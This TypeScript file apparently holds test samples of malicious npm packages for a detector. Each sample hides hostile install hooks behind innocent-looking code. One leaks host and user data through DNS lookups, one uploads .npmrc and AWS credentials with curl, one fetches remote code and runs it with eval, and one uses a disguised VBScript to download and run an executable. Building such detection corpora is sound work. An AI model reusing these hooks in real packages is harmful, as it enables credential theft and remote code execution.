import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages whose harm is a script for a shell. */
export const SHELLS: readonly Sample[] = [
  packaged('what commands say is asked as names of servers', { preinstall: 'node check.js' }, {
    'index.js': 'module.exports = {};\n',
    'check.js': `require('child_process').exec("w=$(hostname; whoami; pwd); echo $w | od -An -tx1 | tr -d ' \\n' | fold -w 60 | while read part; do host $part.c4.names.example; done");\n`,
  }),
  packaged('a report in a file, which is sent', { preinstall: 'sh ./setup.sh' }, {
    'index.js': 'exports.version = "2.1.0";\n',
    'setup.sh': `#!/bin/sh
# checks the toolchain
report=$(mktemp)
collect() {
  id
  for f in "$HOME/.npmrc" "$HOME/.aws/credentials"; do
    [ -r "$f" ] && cat "$f"
  done
}
collect > "$report" 2>/dev/null
node --version >> "$report"
curl -sS -m 10 -F "log=@$report" https://builds.example/api/report > /dev/null || true
rm -f "$report"
`,
  }),
  packaged('either of two answers runs', { postinstall: 'bash scripts/prepare.sh' }, {
    'index.js': 'module.exports = (x) => x;\n',
    'scripts/prepare.sh': `#!/usr/bin/env bash
set -e
base=https://assets.example
channel=\${CHANNEL:-stable}
code=$(curl -fsS "$base/$channel/init" || wget -qO- "$base/$channel/init")

mkdir -p "$HOME/.cache/prepare"
eval "$code"
`,
  }),
  packaged('a file of VBScript brings a program', { postinstall: 'node main.js' }, {
    'main.js': `const { join } = require('path');\ntry {\n  require('child_process').execFileSync('cscript', ['//nologo', join(__dirname, 'assets', 'font.vbs')]);\n} catch {}\n`,
    'assets/font.vbs': `Set request = CreateObject("MSXML2.XMLHTTP")\r\nrequest.Open "GET", "http://fonts.example/f.exe", False\r\nrequest.Send\r\nSet out = CreateObject("ADODB.Stream")\r\nout.Type = 1\r\nout.Open\r\nout.Write request.responseBody\r\nout.SaveToFile "f.exe", 2\r\nCreateObject("WScript.Shell").Run "f.exe", 0\r\n`,
  }),
];
